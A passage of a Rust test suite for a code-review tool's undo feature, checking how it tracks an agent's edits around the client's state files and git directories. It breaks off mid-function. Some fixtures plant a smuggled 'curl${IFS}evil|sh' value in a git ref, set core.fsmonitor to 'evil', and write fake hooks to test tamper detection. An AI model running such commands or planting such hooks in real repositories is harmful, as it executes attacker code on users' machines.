//! The client's own files in the middle of the tree: in no snapshot, no change and no undo.

use super::*;
use crate::model::changes::{ReviewAction, RewindOutcome, Rewound, Scope};
use crate::model::ids::EntryId;
use crate::review::archive;
use crate::review::dir::{HEAD, LEDGER};
use crate::review::protocol::{AgentSession, SessionInfo, ToolEffect, ToolNote};
use crate::review::session::ReviewSession;
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::Command;
use std::time::Instant;
use tempfile::TempDir;

/// Refs.
const ONE: &str = "0123456789abcdef0123456789abcdef01234567\n";
const OTHER: &str = "76543210fedcba9876543210fedcba9876543210\n";
/// An object of git's.
const LOOSE: &str = "objects/aa/0123456789abcdef0123456789abcdef012345";
const STATE: &str = ".local/state/acp-tui";

struct Place {
    _temp: TempDir,
    root: PathBuf,
}

impl Place {
    fn new() -> Self {
        let temp = tempfile::tempdir().unwrap();
        let root = temp.path().canonicalize().unwrap().join("ws");
        fs::create_dir(&root).unwrap();
        Self { _temp: temp, root }
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.root.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        path
    }

    fn read(&self, name: &str) -> String {
        fs::read_to_string(self.root.join(name)).unwrap()
    }

    fn head(&self, private: Vec<PathBuf>) -> SessionInfo {
        SessionInfo {
            stem: "1-2-3".into(),
            cwd: self.root.clone(),
            command: "agent".into(),
            started: 1,
            private,
            directories: Vec::new(),
        }
    }

    /// A review whose state lies in the tree, after its first look.
    fn review(&self, more: &[&str]) -> ReviewSession {
        let state = self.root.join(STATE);
        let private = archive::private(&state).into_iter().chain(more.iter().map(|name| self.root.join(name)));
        let mut review = ReviewSession::create(&archive::below(&state), self.head(private.collect())).unwrap();
        review.session(AgentSession::new("s", 1, "agent")).unwrap();
        review.first_look().unwrap();
        review
    }
}

fn turn(review: &mut ReviewSession, what: impl FnOnce(&mut ReviewSession)) {
    review.begin_turn(1).unwrap();
    what(review);
    review.end_turn(1).unwrap();
}

/// A call that says what it edits.
fn names(review: &mut ReviewSession, paths: &[PathBuf], finished: bool) {
    let note = ToolNote {
        entry: EntryId(1),
        turn: None,
        doing: ToolEffect::Edits,
        at: Instant::now(),
        since: Instant::now(),
        finished,
        waits: false,
        paths: paths.to_vec(),
        claims: Vec::new(),
    };
    review.tool(&note).unwrap();
}

fn changed(review: &mut ReviewSession) -> Vec<String> {
    let changed = review.changed(Scope::Session).unwrap();
    changed.iter().map(|one| one.path.to_str().unwrap().to_owned()).collect()
}

fn rewind(review: &mut ReviewSession) -> Vec<Rewound> {
    review.act(&ReviewAction::Rewind { turn: 1 }).unwrap().rewound
}

fn all(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let (mut found, mut open) = (Vec::new(), vec![dir.to_owned()]);
    while let Some(dir) = open.pop() {
        for path in fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().path()) {
            if path.is_dir() { open.push(path) } else { found.push((path.clone(), fs::read(path).unwrap())) }
        }
    }
    found.sort();
    found
}

#[test]
fn a_state_directory_in_the_tree_is_never_the_agents_work() {
    let place = Place::new();
    place.write("f1", "one\n");
    let journal = place.write(&format!("{STATE}/sessions/1-2-3.jsonl"), "begun\n");
    let mut review = place.review(&[]);
    let ledger = review.dir().join(LEDGER);
    turn(&mut review, |review| {
        names(review, &[place.root.join("f1"), ledger.clone(), place.root.join(STATE), journal.clone()], false);
        place.write("f1", "changed\n");
        place.write(&format!("{STATE}/sessions/1-2-3.jsonl"), "begun\nwent on\n");
        place.write(&format!("{STATE}/crashes/report.txt"), "it fell\n");
        place.write(&format!("{STATE}/review/other/ledger.jsonl"), "of another session\n");
        names(review, std::slice::from_ref(&ledger), true);
    });
    assert_eq!(changed(&mut review), ["f1"]);
    let packs = all(&place.root.join(STATE).join("review/1-2-3/store/objects"));
    assert_eq!(rewind(&mut review), [Rewound { path: "f1".into(), outcome: RewindOutcome::Restored, remark: None }]);
    assert_eq!(place.read("f1"), "one\n");
    assert!(packs.iter().all(|(path, bytes)| fs::read(path).unwrap() == *bytes), "a pack has changed");
    // And there again.
    review.act(&ReviewAction::Undo).unwrap();
    assert_eq!(place.read("f1"), "changed\n");
    assert_eq!(place.read(&format!("{STATE}/sessions/1-2-3.jsonl")), "begun\nwent on\n");
    let said = review.uncovered();
    let own: Vec<_> = said.iter().filter(|line| line.contains("acp-tui")).collect();
    assert_eq!((said.len(), own.len()), (1, 1), "{said:?}");
    assert!(own[0].contains(&format!("{STATE}/review")) && own[0].contains(&format!("{STATE}/sessions")), "{own:?}");
}

#[test]
fn a_crash_in_the_turn_changes_nothing_of_that() {
    let place = Place::new();
    place.write("f1", "one\n");
    let mut review = place.review(&[]);
    let dir = review.dir().to_owned();
    review.begin_turn(1).unwrap();
    place.write("f1", "changed\n");
    place.write(&format!("{STATE}/crashes/report.txt"), "it fell\n");
    drop(review);
    let mut review = ReviewSession::open(&dir).unwrap();
    assert_eq!(changed(&mut review), ["f1"]);
}

#[test]
fn files_that_the_client_was_asked_to_write_are_its_own() {
    let place = Place::new();
    for name in ["r.json", "out/p.patch", "out/kept", "record"] {
        place.write(name, "the person's\n");
    }
    let mut review = place.review(&["r.json", "out/p.patch", "record", "not-yet.json"]);
    let dir = review.dir().to_owned();
    let change =
        |text: &str| ["r.json", "out/p.patch", "out/kept", "record", "not-yet.json"].map(|n| place.write(n, text));
    turn(&mut review, |review| {
        let paths = change("x\n");
        names(review, &paths, true);
    });
    assert_eq!(changed(&mut review), ["out/kept"]);
    drop(review);
    // No setting names them any more.
    let mut review = ReviewSession::open(&dir).unwrap();
    change("y\n");
    assert_eq!(changed(&mut review), ["out/kept"]);
    let rewound = rewind(&mut review);
    assert_eq!(rewound.iter().map(|one| one.path.to_str().unwrap()).collect::<Vec<_>>(), ["out/kept"]);
    assert_eq!(place.read("r.json"), "y\n");
}

#[test]
fn what_git_tracks_of_them_is_left_out_as_well() {
    let place = Place::new();
    place.write("f1", "one\n");
    place.write("r.json", "{}\n");
    place.write(&format!("{STATE}/sessions/old.jsonl"), "old\n");
    let git = |args: &[&str]| {
        let mut git = Command::new("git");
        git.current_dir(&place.root).args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(args);
        assert!(git.env("GIT_CONFIG_NOSYSTEM", "1").output().unwrap().status.success(), "{args:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "-Af"]);
    git(&["commit", "-qm", "one"]);
    let mut review = place.review(&["r.json"]);
    turn(&mut review, |_| {
        place.write("f1", "changed\n");
        place.write("r.json", "{1}\n");
        place.write(&format!("{STATE}/sessions/old.jsonl"), "gone on\n");
        git(&["add", "-Af"]);
    });
    assert_eq!(changed(&mut review), ["f1"]);
    rewind(&mut review);
    assert_eq!((place.read("f1").as_str(), place.read("r.json").as_str()), ("one\n", "{1}\n"));
}

#[test]
fn a_session_that_took_them_for_the_agents_work_no_longer_does() {
    let place = Place::new();
    place.write("f1", "one\n");
    place.write("st/review/x", "x\n");
    // As an earlier version did: it knows of nothing that is its own.
    let outside = place.root.parent().unwrap().join("review");
    let mut review = ReviewSession::create(&outside, place.head(Vec::new())).unwrap();
    review.session(AgentSession::new("s", 1, "agent")).unwrap();
    review.first_look().unwrap();
    turn(&mut review, |_| {
        place.write("f1", "changed\n");
        place.write("st/review/x", "changed\n");
    });
    assert_eq!(changed(&mut review), ["f1", "st/review/x"]);
    drop(review);
    let dir = place.root.join("st/review/1-2-3");
    fs::rename(outside.join("1-2-3"), &dir).unwrap();
    let mut review = ReviewSession::open(&dir).unwrap();
    assert_eq!(changed(&mut review), ["f1"]);
    assert_eq!(rewind(&mut review), [Rewound { path: "f1".into(), outcome: RewindOutcome::Restored, remark: None }]);
    assert_eq!(place.read("st/review/x"), "changed\n");
    review.act(&ReviewAction::Undo).unwrap();
    assert_eq!(place.read("f1"), "changed\n");
}

#[test]
fn a_decision_about_them_that_was_made_earlier_is_not_taken_back() {
    let place = Place::new();
    place.write("st/review/x", "x\n");
    let outside = place.root.parent().unwrap().join("review");
    let mut review = ReviewSession::create(&outside, place.head(Vec::new())).unwrap();
    review.session(AgentSession::new("s", 1, "agent")).unwrap();
    review.first_look().unwrap();
    turn(&mut review, |_| {
        place.write("st/review/x", "changed\n");
    });
    rewind(&mut review);
    drop(review);
    let dir = place.root.join("st/review/1-2-3");
    fs::rename(outside.join("1-2-3"), &dir).unwrap();
    let mut review = ReviewSession::open(&dir).unwrap();
    review.act(&ReviewAction::Undo).map(drop).unwrap_or_default();
    assert_eq!(place.read("st/review/x"), "x\n");
}

#[test]
fn a_session_inside_the_state_directory_is_covered() {
    let place = Place::new();
    let state = place.root.parent().unwrap().to_owned();
    place.write("f1", "one\n");
    let mut review = ReviewSession::create(&archive::below(&state), place.head(archive::private(&state))).unwrap();
    review.first_look().unwrap();
    turn(&mut review, |_| {
        place.write("f1", "changed\n");
    });
    assert_eq!((changed(&mut review), review.uncovered()), (vec!["f1".to_owned()], Vec::new()));
}

#[test]
fn a_session_in_what_is_the_clients_own_covers_nothing_and_says_so() {
    let place = Place::new();
    let home = place.root.parent().unwrap().to_owned();
    place.write("f1", "one\n");
    let mut review = ReviewSession::create(&home, place.head(Vec::new())).unwrap();
    review.first_look().unwrap();
    turn(&mut review, |_| {
        place.write("f1", "changed\n");
    });
    assert!(changed(&mut review).is_empty());
    assert!(review.uncovered().iter().any(|line| line.contains("nothing in it is covered")));
}

#[test]
fn nobody_else_can_look_into_what_is_kept() {
    let place = Place::new();
    place.write("f1", "one\n");
    let state = place.root.join(STATE);
    for dir in [archive::below(&state), state.join("reviews"), state.clone()] {
        fs::create_dir_all(&dir).unwrap();
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o777)).unwrap();
    }
    archive::secure(&state).unwrap();
    let mut review = place.review(&[]);
    turn(&mut review, |_| {
        place.write("f1", "changed\n");
    });
    rewind(&mut review);
    drop(review);
    drop(ReviewSession::open(&archive::below(&state).join("1-2-3")).unwrap());
    let (mut open, mut seen) = (vec![state], 0);
    while let Some(path) = open.pop() {
        let mode = path.symlink_metadata().unwrap().permissions().mode() & 0o7777;
        let most = if path.is_dir() { 0o700 } else { 0o600 };
        assert_eq!(mode & !most, 0, "{mode:o} {path:?}");
        seen += 1;
        open.extend(fs::read_dir(path).into_iter().flatten().map(|entry| entry.unwrap().path()));
    }
    assert!(seen > 10, "{seen}");
}

#[test]
fn the_head_of_a_review_keeps_their_bytes() {
    let place = Place::new();
    let odd = place.root.join(OsStr::from_bytes(b"odd \xff\n name"));
    let review = ReviewSession::create(&archive::below(&place.root), place.head(vec![odd.clone()])).unwrap();
    assert_eq!(archive::head(review.dir()).unwrap().private, [odd]);
    // Of a version that had no such list.
    let path = review.dir().join(HEAD);
    let mut head: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    head.as_object_mut().unwrap().remove("private");
    fs::write(&path, head.to_string()).unwrap();
    assert_eq!(archive::head(review.dir()).unwrap().private, [""; 0].map(PathBuf::from));
}

#[test]
fn git_under_another_name_is_left_alone_and_what_becomes_one_later_is_shown_and_left_alone() {
    let place = Place::new();
    let bare = |dir: &str| {
        for (name, text) in
            [("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n"), (LOOSE, "x\u{1}"), ("refs/heads/main", ONE)]
        {
            place.write(&format!("{dir}/{name}"), text);
        }
    };
    bare(".bare");
    place.write(".git", "gitdir: ./.bare\n");
    place.write("main/file", "one\n");
    // Called alike, and none.
    place.write("src/HEAD", "a heading\n");
    place.write("src/config", "settings\n");
    place.write("src/objects/a", "a\n");
    place.write("src/refs/b", "b\n");
    // Nothing leads there.
    bare("mirror");
    let mut review = place.review(&[]);
    let object = "objects/cc/0123456789abcdef0123456789abcdef012345";
    turn(&mut review, |_| {
        place.write(".bare/refs/heads/main", OTHER);
        place.write(&format!(".bare/{object}"), "x\u{1}new");
        place.write(".bare/config", "changed\n");
        place.write(".bare/hooks/use.ts", "new");
        place.write(".bare/refs/heads/use.ts", "new");
        place.write("mirror/refs/heads/main", OTHER);
        place.write("mirror/refs/heads/evil.sh", "evil\n");
        place.write("main/file", "two\n");
        place.write("src/config", "changed\n");
        bare("made");
        place.write("made/.git", "gitdir: ../made\n");
    });
    let loose = format!("made/{LOOSE}");
    let own = [".bare/config", ".bare/hooks/use.ts", ".bare/refs/heads/use.ts"];
    let made = ["made/HEAD", "made/config", &loose, "made/refs/heads/main"];
    let others = ["main/file", "mirror/refs/heads/evil.sh", "mirror/refs/heads/main", "src/config"];
    let mut all: Vec<&str> = own.iter().chain(&made).chain(&others).copied().collect();
    all.sort_unstable();
    assert_eq!(changed(&mut review), all);
    let said = review.uncovered().join("\n");
    for words in [
        "git's own files in these directories, which an undo leaves alone: .bare",
        ".bare/: git's own has changed",
        ".bare/refs/heads/main",
        "git repositories that have come: made/.git",
        "in which an undo leaves what has come or changed: mirror, made",
        "settings and hooks of git that have changed: .bare/config",
    ] {
        assert!(said.contains(words), "{words}: {said}");
    }
    let dir = review.dir().to_owned();
    drop(review);
    let mut review = ReviewSession::open(&dir).unwrap();
    place.write(".bare/refs/heads/main", ONE);
    let done = review.act(&ReviewAction::Rewind { turn: 0 }).unwrap().rewound;
    for dir in ["made", "mirror"] {
        let one = done.iter().find(|one| one.path == Path::new(dir)).unwrap();
        assert!(
            one.outcome == RewindOutcome::Failed && one.remark.as_ref().unwrap().contains("git repository"),
            "{one:?}"
        );
    }
    assert_eq!(
        (place.read(".bare/refs/heads/main"), place.read(&format!(".bare/{object}"))),
        (ONE.into(), "x\u{1}new".into())
    );
    assert_eq!((place.read("main/file"), place.read("src/config")), ("one\n".into(), "settings\n".into()));
    assert_eq!((place.read("mirror/refs/heads/main"), place.read(".bare/config")), (OTHER.into(), "[core]\n".into()));
    for name in made {
        assert!(place.root.join(name).exists(), "{name}");
    }
    for name in [".bare/hooks/use.ts", ".bare/refs/heads/use.ts", "mirror/refs/heads/evil.sh"] {
        assert!(!place.root.join(name).exists(), "{name}");
    }
}

#[test]
fn what_another_client_is_just_writing_is_no_file_of_the_tree_and_what_it_leaves_is_one() {
    let place = Place::new();
    place.write("file", "one\n");
    let state = place.root.join(STATE);
    let head = SessionInfo { stem: "2-2-2".into(), ..place.head(archive::private(&state)) };
    let other = ReviewSession::create(&archive::below(&state), head).unwrap();
    let names = [".acp-tui-0123456789abcdef.tmp", ".acp-tui-0123456789abcdef.swap"];
    for name in &names {
        drop(place.write(name, "half\n"));
    }
    let mut review = place.review(&[]);
    // It has done its write: nothing was taken away, and an undo brings nothing back.
    fs::remove_file(place.root.join(names[0])).unwrap();
    turn(&mut review, |_| drop(place.write("file", "two\n")));
    let paths = |review: &mut ReviewSession| -> Vec<String> {
        let doc = review.doc(Scope::Session).unwrap();
        doc.files.iter().map(|file| file.path.to_string_lossy().into_owned()).collect()
    };
    assert_eq!(paths(&mut review), ["file"]);
    // The other is gone, and has left something: it is told as long as it is there.
    drop(other);
    turn(&mut review, |_| {});
    assert_eq!(paths(&mut review), ["file"]);
    let words = format!("named as what another acp-tui was writing, which an undo leaves alone: {}", names[1]);
    assert!(review.uncovered().contains(&words), "{:?}", review.uncovered());
    fs::remove_file(place.root.join(names[1])).unwrap();
    assert!(!review.uncovered().iter().any(|line| line.contains("another acp-tui")));
}

/// Makes what looks like one of git's directories.
fn fake(place: &Place, dir: &str) {
    for (name, text) in
        [("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n"), ("objects/k", "k\n"), ("refs/k", "k\n")]
    {
        place.write(&format!("{dir}/{name}"), text);
    }
    place.write(&format!("{dir}/readme"), "text\n");
}

fn git(place: &Place, args: &[&str]) {
    git_in(place, "", args);
}

fn git_in(place: &Place, dir: &str, args: &[&str]) {
    let mut git = Command::new("git");
    git.current_dir(place.root.join(dir)).args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(args);
    let out = git.env("GIT_CONFIG_NOSYSTEM", "1").output().unwrap();
    assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn however_many_directories_look_like_gits_everything_in_them_is_shown_and_named() {
    let place = Place::new();
    for n in 0..60 {
        fake(&place, &format!("a{n:02}"));
    }
    fake(&place, "src");
    for name in ["src/main.py", "src/lib.py", "src/hooks/deep/use.ts", "src/hooks/pre-commit"] {
        place.write(name, "one\n");
    }
    let before = all(&place.root);
    let mut review = place.review(&[]);
    let others = ["src/evil.sh", "src/hooks/deep/use.ts", "src/lib.py", "src/main.py", "src/objects/evil"];
    let heads: Vec<String> = (0..60).map(|n| format!("a{n:02}/HEAD")).collect();
    turn(&mut review, |_| {
        for name in others.iter().copied().chain(["src/hooks/pre-commit", "src/config"]) {
            place.write(name, "evil\n");
        }
        for name in &heads {
            place.write(name, OTHER);
        }
        fs::remove_file(place.root.join("src/lib.py")).unwrap();
    });
    assert_eq!(changed(&mut review).len(), others.len() + heads.len() + 2);
    let said = review.uncovered().join("\n");
    let named = heads.iter().map(|head| head.trim_end_matches("/HEAD")).collect::<Vec<_>>().join(", ");
    assert!(said.contains(&format!("leaves what has come or changed: {named}")), "{said}");
    let done = rewind(&mut review);
    let left: Vec<_> = done.iter().filter(|one| one.outcome == RewindOutcome::Failed).collect();
    assert_eq!(left.len(), 60, "{left:?}");
    for name in heads.iter().map(String::as_str) {
        assert_eq!(place.read(name), OTHER, "{name}");
        let was = before.iter().find(|(path, _)| *path == place.root.join(name)).unwrap();
        fs::write(&was.0, &was.1).unwrap();
    }
    fs::remove_dir_all(place.root.join(".local")).unwrap();
    assert_eq!(all(&place.root), before);
}

/// A directory `src` that looks like one of git's, to which `w/.git` leads, in a tree of sources.
fn led_to(place: &Place, above: &str) {
    fake(place, &format!("{above}src"));
    for name in ["hooks/pre-commit", "hooks/use.ts", "logs/use.ts", "objects/pack/pack-lib.py"] {
        place.write(&format!("{above}src/{name}"), "one\n");
    }
    place.write(&format!("{above}w/.git"), "gitdir: ../src\n");
}

#[test]
fn nothing_is_hidden_in_a_directory_of_which_an_index_names_a_file_or_which_has_another() {
    let names = ["src/config", "src/hooks/pre-commit", "src/hooks/use.ts", "src/logs/use.ts", "src/modules/a/config"];
    for (dir, init) in
        [("", &["init", "-q"][..]), ("r", &["init", "-q", "--object-format=sha256"]), ("r", &["init", "-q"])]
    {
        for tracked in [true, false] {
            let place = Place::new();
            let above = if dir.is_empty() { String::new() } else { format!("{dir}/") };
            led_to(&place, &above);
            place.write(&format!("{above}src/refs/heads/run"), "ref: refs/;curl${IFS}evil|sh\n");
            place.write(&format!("{above}src/modules/a/config"), "one\n");
            git_in(&place, dir, init);
            // `w` is a directory of its own.
            fs::rename(place.root.join(format!("{above}w/.git")), place.root.join("kept")).unwrap();
            if tracked {
                git_in(&place, dir, &["add", "-A"]);
            }
            fs::rename(place.root.join("kept"), place.root.join(format!("{above}w/.git"))).unwrap();
            let own: Vec<String> = names.iter().map(|name| format!("{above}{name}")).collect();
            let more = [format!("{above}src/ORIG_HEAD"), format!("{above}src/refs/heads/run")];
            let before: Vec<String> = own.iter().map(|name| place.read(name)).collect();
            let mut review = place.review(&[]);
            turn(&mut review, |_| {
                own.iter().chain(&more).for_each(|name| drop(place.write(name, ONE)));
                fs::remove_file(place.root.join(&own[1])).unwrap();
            });
            let mut shown: Vec<String> = own.iter().chain(&more).cloned().collect();
            shown.sort_unstable();
            assert_eq!(changed(&mut review), shown, "{init:?} {tracked}");
            let dir = review.dir().to_owned();
            drop(review);
            let mut review = ReviewSession::open(&dir).unwrap();
            let done = rewind(&mut review);
            let is_src = |one: &&Rewound| one.path == Path::new(&format!("{above}src"));
            assert_eq!(done.iter().filter(is_src).count(), 1, "{done:?}");
            for (name, was) in own.iter().zip(before) {
                assert_eq!(place.read(name), was, "{name}, {init:?} {tracked}");
            }
        }
    }
}

#[test]
fn settings_and_hooks_of_git_are_shown_also_in_a_directory_of_its_own() {
    let place = Place::new();
    git(&place, &["init", "-q", "--separate-git-dir=.bare"]);
    place.write("f1", "one\n");
    git(&place, &["add", "f1"]);
    git(&place, &["commit", "-qm", "one"]);
    let mut review = place.review(&[]);
    turn(&mut review, |_| {
        place.write("f1", "two\n");
        git(&place, &["commit", "-qam", "two"]);
        git(&place, &["branch", "other"]);
        git(&place, &["config", "core.fsmonitor", "evil"]);
        place.write(".bare/hooks/pre-commit", "evil\n");
        place.write(".bare/logs/refs/heads/evil.sh", &format!("{} evil\nevil\n", ONE.trim()));
    });
    let own = [".bare/config", ".bare/hooks/pre-commit", ".bare/logs/refs/heads/evil.sh", "f1"];
    assert_eq!(changed(&mut review), own);
    rewind(&mut review);
    assert_eq!(place.read("f1"), "one\n");
    assert!(!place.root.join(own[2]).exists() && !place.root.join(own[1]).exists());
    git(&place, &["fsck", "--full"]);
}

#[test]
fn an_index_that_cannot_be_read_hides_nothing_where_it_may_name_something() {
    let place = Place::new();
    led_to(&place, "");
    git(&place, &["init", "-q"]);
    place.write(".git/index", "no index");
    let mut review = place.review(&[]);
    turn(&mut review, |_| drop(place.write("src/config", "evil\n")));
    assert_eq!(changed(&mut review), ["src/config"]);
}

#[test]
fn a_file_in_a_directory_of_gits_that_is_known_stays_a_file_whatever_is_put_into_it() {
    let place = Place::new();
    fake(&place, "src");
    fs::remove_file(place.root.join("src/readme")).unwrap();
    place.write("w/.git", "gitdir: ../src\n");
    place.write("src/refs/heads/use.ts", "one\n");
    let mut review = place.review(&[]);
    turn(&mut review, |_| drop(place.write("src/refs/heads/use.ts", ONE)));
    assert_eq!(changed(&mut review), ["src/refs/heads/use.ts"]);
    let dir = review.dir().to_owned();
    drop(review);
    let mut review = ReviewSession::open(&dir).unwrap();
    assert_eq!(changed(&mut review), ["src/refs/heads/use.ts"]);
    assert!(rewind(&mut review).iter().any(|one| one.path == Path::new("src")));
}

#[test]
fn gits_own_directory_that_goes_in_part_or_as_a_whole_is_named() {
    let changed = ".bare/: git's own has changed, which an undo leaves alone: ";
    let pack = format!("objects/pack/pack-{}.pack", ONE.trim());
    for (what, words) in [
        ("", [".bare/: was git's own directory and is gone"; 2]),
        ("objects", [".bare/: of git's own objects is gone"; 2]),
        ("refs/heads/main", [changed, ".bare/refs/heads/"]),
        (&pack, [changed, &pack]),
    ] {
        let place = Place::new();
        fake(&place, ".bare");
        place.write(".git", "gitdir: ./.bare\n");
        place.write(".bare/refs/heads/main", ONE);
        fs::remove_file(place.root.join(".bare/readme")).unwrap();
        let object = place.write(&format!(".bare/{LOOSE}"), "");
        fs::write(&object, b"\x78\x01K\xca\xc9OR0`\0\0\x09\xb0\x01\xf0").unwrap();
        let packed = place.write(&format!(".bare/{pack}"), "one");
        place.write("file", "one\n");
        let mut review = place.review(&[]);
        // As the review itself does with objects.
        fs::hard_link(&object, place.root.parent().unwrap().join("link")).unwrap();
        let before = review.uncovered().join("\n");
        let own = "git's own files in these directories, which an undo leaves alone: .bare";
        assert!(before.ends_with(own) && !before.contains("ignored"), "{before}");
        assert!(!before.contains("change"), "{before}");
        turn(&mut review, |_| {
            let gone = place.root.join(".bare").join(what);
            if gone == packed {
                // As long as it was, and with its time put back.
                let was = gone.metadata().unwrap().modified().unwrap();
                fs::write(&gone, "two").unwrap();
                fs::File::options().write(true).open(&gone).unwrap().set_modified(was).unwrap();
            } else if gone.is_dir() {
                fs::remove_dir_all(gone).unwrap();
            } else {
                fs::remove_file(gone).unwrap();
            }
        });
        let said = review.uncovered().join("\n");
        assert!(words.iter().all(|words| said.contains(words)), "{what}: {said}");
        let dir = review.dir().to_owned();
        drop(review);
        let said = ReviewSession::open(&dir).unwrap().uncovered().join("\n");
        assert!(words.iter().all(|words| said.contains(words)), "{what}, later: {said}");
    }
}

#[test]
fn of_very_many_directories_of_gits_a_few_are_named_and_how_many_more_there_are() {
    let place = Place::new();
    for n in 0..80 {
        fake(&place, &format!("g{n:02}"));
        fs::remove_file(place.root.join(format!("g{n:02}/readme"))).unwrap();
        place.write(&format!("w{n:02}/.git"), &format!("gitdir: ../g{n:02}\n"));
    }
    let mut review = place.review(&[]);
    turn(&mut review, |_| {
        for n in 0..80 {
            place.write(&format!("g{n:02}/refs/heads/main"), ONE);
        }
    });
    let mut said = review.uncovered();
    said.retain(|line| line.contains("git's own"));
    assert_eq!(said.len(), 52, "{said:?}");
    assert_eq!(said[50], "and 30 more lines of git's own directories");
    assert!(said[51].ends_with("g06, g07 and 72 more"), "{said:?}");
}

/// A repository of three commits, all in one pack.
fn with_history() -> Place {
    let place = Place::new();
    for text in ["one\n", "two\n", "three\n"] {
        place.write("f1", text);
        if text == "one\n" {
            git(&place, &["init", "-q"]);
            git(&place, &["config", "core.logAllRefUpdates", "true"]);
        }
        git(&place, &["add", "-A"]);
        git(&place, &["commit", "-qm", text.trim()]);
    }
    git(&place, &["gc", "-q"]);
    place
}

/// Sources in directories that git has, too.
fn sources(place: &Place) {
    for name in ["src/hooks/use.ts", "src/hooks/other.ts", "src/refs/a/b", "src/annex/x.py", "src/main.ts"] {
        place.write(name, "one\n");
    }
}

fn bait(place: &Place) {
    for (name, text) in
        [("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n"), ("objects/.k", ""), ("refs/.k", "")]
    {
        place.write(&format!("src/{name}"), text);
    }
}

#[test]
fn what_looks_like_git_while_git_is_away_is_and_stays_covered() {
    for (away, known, tracked) in [(".git", false, true), (".git", true, false), (".git/objects", true, true)] {
        let place = with_history();
        sources(&place);
        if tracked {
            git(&place, &["add", "-A"]);
            git(&place, &["commit", "-qm", "sources"]);
        }
        let mut review = place.review(&[]);
        let hidden = ["src/annex/x.py", "src/hooks/new.ts", "src/hooks/other.ts", "src/hooks/use.ts", "src/refs/a/b"];
        let evil = |place: &Place| {
            place.write("src/hooks/use.ts", "evil\n");
            place.write("src/hooks/new.ts", "evil\n");
            for name in ["src/hooks/other.ts", "src/annex/x.py", "src/refs/a/b"] {
                fs::remove_file(place.root.join(name)).unwrap();
            }
        };
        turn(&mut review, |review| {
            let (from, to) = (place.root.join(away), place.root.join(".away"));
            if known {
                evil(&place);
                review.before_command().unwrap();
            }
            fs::rename(&from, &to).unwrap();
            bait(&place);
            review.before_command().unwrap();
            fs::rename(&to, &from).unwrap();
            if !known {
                evil(&place);
            }
            for name in ["HEAD", "config", "objects/.k", "refs/.k"] {
                fs::remove_file(place.root.join("src").join(name)).unwrap();
            }
        });
        let mut changed = changed(&mut review);
        // What came from where nobody looks.
        changed.retain(|name| !name.starts_with(".away"));
        assert_eq!(changed, hidden, "{away}");
        rewind(&mut review);
        for name in hidden.into_iter().filter(|name| *name != "src/hooks/new.ts") {
            assert_eq!(place.read(name), "one\n", "{name}");
        }
        assert!(!place.root.join("src/hooks/new.ts").exists());
    }
}

#[test]
fn a_history_that_leaves_dot_git_in_any_way_survives_an_undo() {
    let layouts: [(&str, &str); 8] = [
        ("mv .git .bare; echo 'gitdir: ./.bare' > .git; $git commit -qam agent; git gc -q --prune=now", ".bare"),
        ("mv .git/objects objs; ln -s ../objs .git/objects; git gc -q --prune=now", "objs"),
        (
            "mkdir -p objs; mv .git/objects/pack objs/pack; mkdir -p .git/objects/pack .git/objects/info; \
             echo ../../objs > .git/objects/info/alternates; GIT_OBJECT_DIRECTORY=objs git repack -adq",
            "objs",
        ),
        (
            "mv .git .bare; rm .bare/config; echo 'gitdir: ./.bare' > .git; $git commit -qam agent; git gc -q --prune=now",
            ".bare",
        ),
        (
            "mv .git .bare; to=$(cut -c6- .bare/HEAD); rm .bare/HEAD; ln -s $to .bare/HEAD; echo 'gitdir: ./.bare' > .git; \
             git gc -q --prune=now",
            ".bare",
        ),
        (
            "mv .git zz.bare; echo 'gitdir: ./zz.bare' > .git; for i in 1 2 3 4 5 6 7 8 9; do mkdir -p a/$i/objects a/$i/refs; \
             echo 'ref: refs/heads/main' > a/$i/HEAD; : > a/$i/config; done; git gc -q --prune=now",
            "zz.bare",
        ),
        (
            "cp -a .git .bare; find .git -type f -delete; git --git-dir=.bare gc -q --prune=now; rm -rf .git; \
             echo 'gitdir: ./.bare' > .git",
            ".bare",
        ),
        ("mkdir deep; mv .git deep/.x; git --git-dir=deep/.x gc -q --prune=now; echo 'gitdir: deep/.x' > .git", "deep"),
    ];
    for (command, to) in layouts {
        let place = with_history();
        let mut review = place.review(&[]);
        turn(&mut review, |_| {
            place.write("f1", "the agent's\n");
            place.write("evil.sh", "the agent's\n");
            let identity = "git='git -c user.name=a -c user.email=a@b'; set -e; ";
            let out =
                Command::new("sh").current_dir(&place.root).args(["-c", &format!("{identity}{command}")]).output();
            let out = out.unwrap();
            assert!(out.status.success(), "{command}: {}", String::from_utf8_lossy(&out.stderr));
        });
        let said = review.uncovered().join("\n");
        assert!(said.contains("git has lost this") && said.contains(to), "{command}: {said}");
        let dir = review.dir().to_owned();
        drop(review);
        let mut review = ReviewSession::open(&dir).unwrap();
        let done = rewind(&mut review);
        let is_named = |one: &Rewound| one.path.starts_with(to) && one.outcome == RewindOutcome::Failed;
        assert!(done.iter().any(is_named), "{command}: {done:?}");
        assert!(done.len() < 16, "{command}: {done:?}");
        assert_eq!((place.read("f1"), place.root.join("evil.sh").exists()), ("three\n".into(), false), "{command}");
        git(&place, &["fsck", "--full"]);
        for (at, text) in [("--grep=one", "one"), ("--grep=two", "two"), ("--grep=three", "three")] {
            let out = Command::new("git").current_dir(&place.root).args(["log", "--format=%s", at]).output().unwrap();
            assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), text, "{command}: {out:?}");
        }
    }
}

/// As a person or an agent types it.
fn sh(place: &Place, command: &str) {
    let identity = "git='git -c user.name=a -c user.email=a@b'; set -e; ";
    let out =
